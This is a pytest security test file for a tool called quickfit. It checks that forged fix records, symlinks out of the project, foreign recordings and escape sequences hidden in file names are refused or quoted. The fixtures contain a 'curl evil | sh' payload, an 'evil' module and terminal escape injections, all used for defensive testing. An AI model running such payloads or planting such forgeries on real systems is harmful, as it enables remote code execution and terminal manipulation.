"""A cloned folder, a recording of somebody else and odd names: what they try comes to nothing."""

import hashlib
import json
import os
import shutil
import sqlite3
import stat
import subprocess
import sys
from contextlib import closing
from pathlib import Path

import pytest

from quickfit import trust
from quickfit.recording import folder as folders
from quickfit.recording.writer import Writer

from launch.sessions import Terminal, clean_env, quickfit

ESCAPES = "\x1b]0;owned\x07\x1b[35;45m"
# What no text of quickfit's may hold: the beginning of a sequence, a bell, a bare return.
RAW = (b"\x1b]", b"\x07", b"\x1b[35;45m")
TRAIN = "a = 1\n"


@pytest.fixture
def clone(tmp_path):
    """A folder that was cloned, beside files of the user."""
    folder = tmp_path / "clone"
    folder.mkdir()
    (folder / "train.py").write_text(TRAIN)
    (tmp_path / ".profile").write_text("echo mine\n")
    return folder


def digest(data):
    return hashlib.sha256(data).hexdigest()


def forge_proof(clone, victim, *, private=True, **more):
    """Write a note of a proof that names a file, as its attacker can."""
    facts = [
        {
            "cause": "sequential-map",
            "kind": "same-results",
            "edits": [[str(victim), [1, 0], [1, 0], "import os\n"]],
            "digests": {str(victim): digest(victim.read_bytes())},
        }
    ]
    return forge(clone / ".quickfit" / "fixes" / "proven.json", {"proven": facts, **more}, private)


def forge(path, facts, private=True):
    path.parent.mkdir(parents=True, mode=0o700, exist_ok=True)
    path.write_text(json.dumps(facts))
    if private:
        for folder in (path.parent, *path.parents[1:3]):
            if ".quickfit" in folder.parts:
                folder.chmod(0o700)
        path.chmod(0o600)
    return path


def forge_undo(clone, victim):
    """Write a record of a fix whose `original` is what the attacker wants to be written."""
    folder = clone / ".quickfit" / "fixes" / "20260101-000000-0"
    wanted = b"curl evil | sh\n"
    entry = {"path": str(victim), "saved": "0-x", "before": digest(wanted)}
    facts = {"title": "x", "files": [{**entry, "after": digest(victim.read_bytes())}]}
    forge(folder / "fix.json", facts)
    forge(folder / "0-x", "")
    (folder / "0-x").write_bytes(wanted)


@pytest.mark.parametrize("private", [True, False])
def test_a_forged_proof_writes_nothing(clone, private):
    for victim in (clone.parent / ".profile", clone / "train.py"):
        before = victim.read_bytes()
        forge_proof(clone, victim, private=private, seal="0" * 64)
        done = quickfit(clone, "fix", "--apply")
        assert done.returncode == 4
        assert b"proven.json: this proof is not trusted, so nothing was written." in done.stderr
        assert b"Received: " in done.stderr
        assert b"quickfit fix train.py" in done.stderr
        assert victim.read_bytes() == before


def test_a_forged_record_of_a_fix_puts_nothing_back(clone):
    for victim in (clone.parent / ".profile", clone / "train.py"):
        before = victim.read_bytes()
        forge_undo(clone, victim)
        done = quickfit(clone, "fix", "--undo")
        assert done.returncode == 4
        assert b"this record of a fix is not trusted, so nothing was put back." in done.stderr
        assert victim.read_bytes() == before


def test_a_proof_of_ones_own_writes_nothing_outside_of_the_project(clone):
    """Even a sealed one: a link that was put in place since leads out of the folder."""
    from quickfit.findings import Edit, FixClass
    from quickfit.fixing.proven import Proven, keep

    victim = clone.parent / ".profile"
    victim.write_text(TRAIN)
    (clone / "train.py").unlink()
    (clone / "train.py").symlink_to(victim)
    path = str(clone / "train.py")
    edits = (Edit(path, (1, 4), (1, 5), "2"),)
    one = Proven("tiny-batch", FixClass.SAME_RESULTS, edits, {path: digest(TRAIN.encode())})
    keep([one], clone)
    done = quickfit(clone, "fix", "--apply")
    assert done.returncode == 4
    assert b"train.py: lies outside of the project folder" in done.stderr
    assert victim.read_text() == TRAIN


@pytest.mark.parametrize("link", [".quickfit", ".quickfit/runs", ".quickfit/fixes"])
def test_nothing_is_written_or_removed_through_a_link_of_a_cloned_folder(clone, link):
    other = clone.parent / "other" / ".quickfit"
    for number in range(25):
        record(other / "runs" / f"{number}.qfrun")
    before = sorted(other.rglob("*"))
    (clone / link).parent.mkdir(exist_ok=True)
    (clone / link).symlink_to(other / Path(link).relative_to(".quickfit"))
    (other / "fixes").mkdir()
    (clone / "odd.py").write_text(CHAIN.format(""))
    for words in (("run", "train.py"), ("check", "--fix", "odd.py")):
        done = quickfit(clone, *words)
        if link in (".quickfit", f".quickfit/{'runs' if words[0] == 'run' else 'fixes'}"):
            assert b"is a link to another place" in done.stderr
            assert done.returncode != 0
    (other / "fixes").rmdir()
    assert sorted(other.rglob("*")) == before


def test_a_proof_of_ones_own_is_shown_and_written(clone):
    from quickfit.findings import Edit, FixClass
    from quickfit.fixing.proven import Proven, keep

    path = str(clone / "train.py")
    edits = (Edit(path, (1, 4), (1, 5), "2"),)
    keep([Proven("x", FixClass.SAME_RESULTS, edits, {path: digest(TRAIN.encode())})], clone)
    done = quickfit(clone, "fix", "--apply")
    assert (clone / "train.py").read_text() == "a = 2\n"
    assert done.stdout.startswith(b"diff --git a/train.py b/train.py\n")
    assert b"-a = 1\n+a = 2\n" in done.stdout
    undone = quickfit(clone, "fix", "--undo")
    assert b"-a = 2\n+a = 1\n" in undone.stdout
    assert (clone / "train.py").read_text() == TRAIN


def record(folder, **launch):
    """Make a recording with one step, of a command."""
    trust.make_private_folder(folder)
    writer = Writer(folder, {"role": "main", "pid": 1, "started_s": 0.0, "usable_cores": 2.0})
    writer.add("loops", (1, "fit", None, None, 0.0, 0.0, None, None, None, "{}"))
    for step in range(50):
        writer.add_step((1, 0, step, step * 1.0, 0.1, 0.0, 0.0, 0.0, step + 0.9, 0.1, 0.1))
    writer.flush()
    writer.close()
    facts = {"script": None, "module": None, "argv": [], "pid": 1, "ended_at": 1.0, **launch}
    folders.write_run_file(folder, facts)
    return facts


MARK = "from pathlib import Path; Path('ran').touch()\n"


@pytest.fixture
def foreign(clone):
    """A recording that names a module which leaves a mark when it is run."""
    (clone / "evil.py").write_text(MARK)
    return record(
        clone / "RUN.qfrun",
        script="evil",
        module="evil",
        argv=["--a b", "\x1b[35;45m"],
        cwd=str(clone),
    )


def test_the_command_of_a_foreign_recording_is_not_run(clone, foreign):
    done = quickfit(clone, "fix", "--tune", "RUN.qfrun")
    assert done.returncode == 4, done.stderr
    assert b"this recording was not made by you in this folder" in done.stderr
    assert b"Received: python -m evil '--a b' '\\x1b[35;45m', to be run in" in done.stderr
    assert b"    quickfit fix -m evil '--a b'" in done.stderr
    assert not any(raw in done.stderr for raw in RAW)
    assert not list(clone.glob("**/ran"))


def test_at_a_terminal_the_command_of_a_foreign_recording_is_shown_and_asked_about(clone, foreign):
    command = (sys.executable, "-m", "quickfit", "fix", "--tune", "RUN.qfrun")
    with Terminal(command, clone) as terminal:
        terminal.read_until(b"Run it? [y/N] ")
        terminal.type(b"n\n")
        assert terminal.end() == 4
    assert b"python -m evil" in terminal.shown
    assert not list(clone.glob("**/ran"))


def is_asked_about(clone):
    done = quickfit(clone, "fix", "--tune", "--budget", "1s", "RUN.qfrun")
    return b"not made by you" in done.stderr


def test_a_recording_of_ones_own_is_run_without_asking_only_where_it_was_made(clone, foreign):
    folder = clone / "RUN.qfrun"
    folders.write_run_file(folder, folders.seal_launch(foreign, folder))
    assert not is_asked_about(clone)
    other = clone.parent / "other"
    other.mkdir()
    subprocess.run(["cp", "-rp", folder, other], check=True)
    (other / "evil.py").write_text(MARK)
    assert is_asked_about(other), "a copy is not where it was made"
    folders.write_run_file(folder, folders.seal_launch(foreign, folder) | {"module": "other"})
    assert is_asked_about(clone), "it was changed since"


def test_a_run_is_recorded_with_the_seal_of_its_user(clone):
    quickfit(clone, "run", "--output", "RUN.qfrun", "train.py", "--epochs", "3")
    facts = folders.read_run_file(clone / "RUN.qfrun")
    folders.check_launch(facts, clone / "RUN.qfrun")
    with pytest.raises(trust.NotTrusted):
        folders.check_launch({**facts, "argv": []}, clone / "RUN.qfrun")


@pytest.mark.parametrize("mask", ["000", "022", "777"])
def test_what_a_run_leaves_is_for_its_user_alone(clone, mask):
    script = "import time; time.sleep(1.2)\n"
    (clone / "train.py").write_text(script)
    command = f"umask {mask}; exec {sys.executable} -m quickfit run train.py"
    subprocess.run(["sh", "-c", command], cwd=clone, env=clean_env(), capture_output=True)
    left = [clone / ".quickfit", *(clone / ".quickfit").rglob("*")]
    assert any(path.suffix == ".sqlite" for path in left)
    for path in left:
        wanted = 0o700 if path.is_dir() else 0o600
        assert stat.S_IMODE(path.stat().st_mode) == wanted, path


def test_files_beside_a_growing_recording_are_private_too(tmp_path):
    before = os.umask(0)
    try:
        writer = Writer(tmp_path, {"role": "main"})
        writer.flush()
        modes = {path.suffix: stat.S_IMODE(path.stat().st_mode) for path in tmp_path.iterdir()}
        writer.close()
    finally:
        os.umask(before)
    assert set(modes) == {".sqlite", ".sqlite-wal", ".sqlite-shm"}
    assert set(modes.values()) == {0o600}


ODD = f"odd{ESCAPES}.py"
CHAIN = "import tensorflow as tf\nds = ds.shuffle(tf.data.AUTOTUNE)  # {}\nmodel.fit(ds)\n"


@pytest.mark.parametrize(
    "words",
    [
        *(("check", "."), ("check", "--diff", "."), ("check", "--format", "github", ".")),
        *(("check", "--fix", "."), ("check", "no-such" + ESCAPES), ("check", "--no" + ESCAPES)),
        *(("run", "no-such" + ESCAPES), ("report", ESCAPES + ".qfrun"), ("attach", ESCAPES)),
        *(("fix", "no-such" + ESCAPES + ".py"), ("fix", "--only", ESCAPES, "train.py")),
        *(("shrink", ESCAPES, "--data", "x"), ("explain", ESCAPES), ("tune", ESCAPES)),
        *(("pack", ESCAPES, "x"), ("bench", ESCAPES), (ESCAPES,), ("check", "--output", ESCAPES)),
        ("demo", "--keep", ODD),
    ],
    ids=lambda words: " ".join(words).encode("unicode_escape").decode(),
)
def test_no_command_writes_an_escape_sequence_to_a_terminal(clone, words):
    (clone / ODD).write_text(CHAIN.format(ESCAPES))
    with Terminal((sys.executable, "-m", "quickfit", *words), clone) as terminal:
        terminal.end()
    assert terminal.shown
    assert not [raw for raw in RAW if raw in terminal.shown]


def hostile_contents(clone):
    """Fill a folder with files, pictures and a recording that hold escape sequences."""
    (clone / f"syntax{ESCAPES}.py").write_text(f"x = (\n'{ESCAPES}\n")
    cell = {"cell_type": "code", "source": [CHAIN.format(ESCAPES)], "outputs": [], "metadata": {}}
    notebook = {"cells": [cell], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
    (clone / f"cells{ESCAPES}.ipynb").write_text(json.dumps(notebook))
    (clone / "loops.py").write_text(f"def broken():\n    raise ValueError({ESCAPES!r})\n")
    (clone / "photos" / f"cat{ESCAPES}").mkdir(parents=True)
    (clone / "photos" / f"cat{ESCAPES}" / f"a{ESCAPES}.jpg").write_bytes(b"\xff\xd8\xff broken")
    (clone / "model.keras").write_bytes(b"PK\x03\x04" + ESCAPES.encode())
    record(clone / "RUN.qfrun", script=f"odd{ESCAPES}.py", cwd=str(clone), argv=[ESCAPES])
    (file,) = (clone / "RUN.qfrun").glob("*.sqlite")
    with closing(sqlite3.connect(file)) as db, db:
        db.execute("INSERT INTO notes VALUES (1.0, ?)", (ESCAPES,))
        db.execute("UPDATE loops SET file = ?, line = 1", (ESCAPES,))


@pytest.mark.parametrize(
    "words",
    [
        *(("check", "."), ("check", "--diff", "."), ("check", "--format", "github", ".")),
        *(("report", "RUN.qfrun"), ("report", "--format", "json", "RUN.qfrun")),
        *(("fix", "--no-proof", "RUN.qfrun"), ("pack", "photos", "packed")),
        *(("bench", "loops.py:broken"), ("tune", "loops.py"), ("attach", "PID")),
        ("shrink", "model.keras", "--data", "loops.py"),
    ],
    ids=" ".join,
)
def test_no_command_writes_an_escape_sequence_of_what_it_reads(clone, words):
    hostile_contents(clone)
    with subprocess.Popen([ESCAPES, "600"], executable=shutil.which("sleep")) as named:
        try:
            words = [str(named.pid) if word == "PID" else word for word in words]
            with Terminal((sys.executable, "-m", "quickfit", *words), clone) as terminal:
                terminal.end()
        finally:
            named.kill()
    assert terminal.shown
    assert not [raw for raw in RAW if raw in terminal.shown]
    escaped = ESCAPES.encode("unicode_escape")
    is_quoted = escaped[:8] in terminal.shown or b"\\u001b]0;o" in terminal.shown
    assert is_quoted or words[0] in ("tune", "shrink")


def test_undo_writes_no_escape_sequence_of_a_name(clone):
    (clone / ODD).write_text(CHAIN.format(ESCAPES))
    assert quickfit(clone, "check", "--fix", ".").returncode == 0
    with Terminal((sys.executable, "-m", "quickfit", "fix", "--undo"), clone) as terminal:
        assert terminal.end() == 0
    assert b"Undone: check --fix" in terminal.shown
    assert not [raw for raw in RAW if raw in terminal.shown]


def test_a_removed_working_folder_is_said(tmp_path):
    (tmp_path / "gone").mkdir()
    command = f"rmdir ../gone; exec {sys.executable} -m quickfit check"
    done = subprocess.run(
        ["sh", "-c", command], cwd=tmp_path / "gone", env=clean_env(), capture_output=True
    )
    assert done.returncode == 2
    assert b"the working folder cannot be used (No such file or directory)" in done.stderr
    assert b"Traceback" not in done.stderr


@pytest.mark.parametrize("code", [0, 3])
def test_pythoninspect_does_not_change_the_exit_code(clone, code):
    (clone / "train.py").write_text(f"import os; os._exit({code})\n")
    env = clean_env(PYTHONINSPECT="1")
    assert quickfit(clone, "run", "train.py", env=env).returncode == code
    assert quickfit(clone, "check", "no-such.py", env=env).returncode == 2


LIMITED = """
import resource, signal, time
signal.signal(signal.SIGXFSZ, signal.SIG_DFL)
resource.setrlimit(resource.RLIMIT_FSIZE, (20_000, 20_000))
time.sleep(2.5)
print("done")
"""


def test_a_limit_on_file_sizes_ends_the_recording_and_not_the_script(clone):
    (clone / "train.py").write_text(LIMITED)
    done = quickfit(clone, "run", "train.py")
    assert (done.returncode, done.stdout) == (0, b"done\n")
